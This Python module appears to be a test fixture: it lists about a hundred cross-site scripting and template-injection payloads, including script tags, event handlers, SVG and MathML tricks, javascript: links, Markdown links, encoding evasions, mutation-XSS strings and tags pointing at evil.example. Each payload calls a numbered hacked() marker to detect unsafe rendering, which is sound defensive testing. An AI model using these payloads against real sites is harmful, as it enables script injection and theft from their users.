"""Texts that would do something if any part of the service took them for more than text.

Each way stands once. `hacked(…)` is what each of them tries to call, with its own number.
"""

from __future__ import annotations

_TEMPLATES: tuple[str, ...] = (
    # Script elements
    "<script>CALL</script>",
    "<ScRiPt>CALL</sCrIpT>",
    "<script/x>CALL</script>",
    "<script src=data:,CALL></script>",
    '"><script>CALL</script>',
    "'><script>CALL</script>",
    "</title><script>CALL</script>",
    "</textarea><script>CALL</script>",
    "</script><script>CALL</script>",
    '</script><svg onload="CALL">',
    "<!--><script>CALL</script-->",
    "<![CDATA[><script>CALL</script>]]>",
    "</style><script>CALL</script><style>",
    "<script type=module>CALL</script>",
    # Event handlers
    "<img src=x onerror=CALL>",
    '<img src="x" onerror="CALL">',
    "<img/src=x/onerror=CALL>",
    "<IMG SRC=x ONERROR=CALL>",
    "<img src=x onerror\n=\nCALL>",
    "<body onload=CALL>",
    "<input autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL>",
    "<details open ontoggle=CALL>x</details>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL>",
    "<marquee onstart=CALL>x</marquee>",
    "<div onpointerover=CALL style='position:fixed;inset:0'>x</div>",
    "<p style='animation:x' onanimationstart=CALL>x</p>",
    "<button popovertarget=x onclick=CALL>x</button><div popover id=x onbeforetoggle=CALL></div>",
    "<x contenteditable onblur=CALL tabindex=1 autofocus>x</x>",
    # SVG and MathML
    "<svg onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:CALL'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
    "<math><mtext><img src=x onerror=CALL></mtext></math>",
    "<math href='javascript:CALL'>x</math>",
    # Documents within documents
    "<iframe src='javascript:CALL'></iframe>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<object data='javascript:CALL'></object>",
    "<embed src='javascript:CALL'>",
    "<form action='javascript:CALL'><input type=submit></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<link rel=stylesheet href='data:text/css,*{color:red}'>",
    "<style>@import 'data:text/css,*{background:red}';</style>",
    # Ways out of an attribute
    '" onmouseover="CALL" x="',
    "' onmouseover='CALL' x='",
    "` onmouseover=CALL x=`",
    '"><img src=x onerror=CALL>',
    '" autofocus onfocus=CALL tabindex=1 "',
    "x onerror=CALL src=x",
    # Addresses
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "java\tscript:CALL",
    "\x01javascript:CALL",
    "data:text/html,<script>parent.CALL</script>",
    "vbscript:CALL",
    "https://news.example/\"onmouseover='CALL'",
    "https://news.example/#'><img src=x onerror=CALL>",
    # Markdown
    "[x](javascript:CALL)",
    "[x](<javascript:CALL>)",
    '![x](x"onerror="CALL)',
    "![x](javascript:CALL)",
    "[x]: javascript:CALL\n\n[x]",
    "<javascript:CALL>",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkKCk8L3NjcmlwdD4=)",
    "`<img src=x onerror=CALL>`",
    "**<img src=x onerror=CALL>**",
    "[<img src=x onerror=CALL>](https://news.example)",
    "```html\n<img src=x onerror=CALL>\n```",
    # Templates
    "{{CALL}}",
    "{{constructor.constructor('CALL')()}}",
    "${CALL}",
    "{% raw %}<script>CALL</script>",
    "<%= CALL %>",
    "#{CALL}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    # Characters that are not what they seem
    "&lt;img src=x onerror=CALL&gt;",
    "&#60;script&#62;CALL&#60;/script&#62;",
    "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
    "＜script＞CALL＜/script＞",
    "<scr\u200bipt>CALL</scr\u200bipt>",
    "<img src=x oner\u00adror=CALL>",
    "\u202e<img src=x onerror=CALL>\u202c",
    "<\u017fcript>CALL</\u017fcript>",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-",
    # What changes its meaning when it is parsed a second time
    "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=CALL&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=CALL>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
    "<template><img src=x onerror=CALL></template>",
    "<xmp><p title='</xmp><img src=x onerror=CALL>'>",
    "<plaintext><img src=x onerror=CALL>",
    "<listing>&lt;img onerror=CALL src=x&gt;</listing>",
    "<wellcited-chat endpoint='https://evil.example'></wellcited-chat>",
    "<a id=hacked href='javascript:CALL'>x</a><a name=document>x</a>",
)

PAYLOADS: tuple[str, ...] = tuple(
    text.replace("CALL", f"hacked({number})") for number, text in enumerate(_TEMPLATES)
)
"""Every payload once, as it is written."""
